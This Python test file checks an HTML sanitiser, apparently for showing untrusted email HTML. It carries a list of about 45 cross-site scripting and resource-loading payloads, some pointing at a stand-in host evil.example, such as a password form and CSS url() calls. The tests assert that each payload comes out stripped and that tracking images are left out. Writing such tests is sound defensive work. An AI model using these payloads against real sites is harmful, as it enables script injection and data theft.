"""The HTML of strangers: nothing runs, nothing loads, nothing leaves its place."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hub.web.safe_html import ATTRIBUTES, TAGS, Inline, Safe, cleaned, placed, safe_style


def sanitised(html: str, *, images: bool, inline: Inline) -> Safe:
    """Both steps, one of which a reading worker does."""
    return placed(cleaned(html), images=images, inline=inline)


PAYLOADS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
    "<svg onload=alert(1)><feImage href='https://evil.example/x'/></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java\nscript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="/api/v1/session">x</a>',
    '<img src="/api/v1/conversations/1">',
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<base href=https://evil.example/><a href=x>y</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example'; body{background:url(https://evil.example)}</style>",
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    "<div style=\"background-image:image-set('https://evil.example/x' 1x)\">x</div>",
    '<div style="position:fixed;top:0;left:0;width:100%;height:100%">x</div>',
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="color:red;\\62 ackground:u\\72l(https://evil.example)">x</div>',
    '<div style="color:red/*;*/;background:url(//evil.example)">x</div>',
    "<table background=https://evil.example/x.png><tr><td background=//evil.example>x</td></tr></table>",
    "<img srcset='https://evil.example/x 2x' src=''>",
    "<video src=https://evil.example poster=https://evil.example/p></video><audio src=//evil.example></audio>",
    "<input type=image src=https://evil.example/x>",
    "<body background=https://evil.example onload=alert(1)>x</body>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=https://fine.example target=_self onclick=alert(1) id=cookie name=csrf>x</a>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "<!--[if gte mso 9]><img src=x onerror=alert(1)><![endif]-->",
    "<p>\u202ereversed</p><b/><u ",
    "<img src='  cid:../../session '>",
]


class Seen(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def no_picture(_: str) -> None:
    return None


def harmless(html: str) -> None:
    """Raises when anything is left that is not on the lists, or that could load."""
    seen = Seen()
    seen.feed(html)
    for tag, attributes in seen.tags:
        assert tag in TAGS, tag
        for name, value in attributes.items():
            assert name in ATTRIBUTES["*"] | ATTRIBUTES.get(tag, set()) | {"rel", "target"}, name
            assert not name.startswith("on")
            if name == "href":
                assert re.match(r"(https?://|mailto:|tel:)", value.strip(), re.IGNORECASE), value
            if name == "src":
                assert value.startswith("data:image/"), value
            if name == "style":
                assert not re.search(r"url|position|expression|image-set|\\|@|<", value), value


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_comes_out_harmless(payload: str) -> None:
    harmless(sanitised(payload, images=False, inline=no_picture).html)


def test_the_check_itself_sees_a_breach() -> None:
    with pytest.raises(AssertionError):
        harmless("<img src=x onerror=alert(1)>")
    with pytest.raises(AssertionError):
        harmless("<p style='position:fixed'>x</p>")


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from([*PAYLOADS, "<b>", "</b>", "<!--", "-->", "<style>", "</style>", '"', "'", ">"]),
        max_size=6,
    )
)
def test_payloads_glued_together_stay_harmless(parts: list[str]) -> None:
    harmless(sanitised("".join(parts), images=False, inline=no_picture).html)


def test_remote_images_are_counted_and_left_out_unless_asked() -> None:
    html = '<img src="https://track.example/1.gif" alt="hello"><img src="//track.example/2.gif">'
    without = sanitised(html, images=False, inline=no_picture)
    assert without.remote_images == 2
    assert "track.example" not in without.html
    assert 'alt="hello"' in without.html
    assert "https://track.example/1.gif" in sanitised(html, images=True, inline=no_picture).html


def test_pictures_inside_the_letter_are_found_by_their_content_id() -> None:
    safe = sanitised('<img src="cid:logo@x">', images=False, inline={"logo@x": "/files/0?inline=1"}.get)
    assert 'src="/files/0?inline=1"' in safe.html
    assert safe.remote_images == 0


def test_links_open_elsewhere_and_tell_nobody() -> None:
    html = sanitised(
        '<a href="https://shop.example/订单?a=1&b=2">order</a>', images=False, inline=no_picture
    ).html
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_colours_and_spacing_of_a_letter_stay() -> None:
    style = "color: rgb(10, 20, 30); margin: 0 auto; font-family: 'Segoe UI', sans-serif; background: url(x)"
    assert safe_style(style) == "color: rgb(10, 20, 30); margin: 0 auto; font-family: 'Segoe UI', sans-serif"
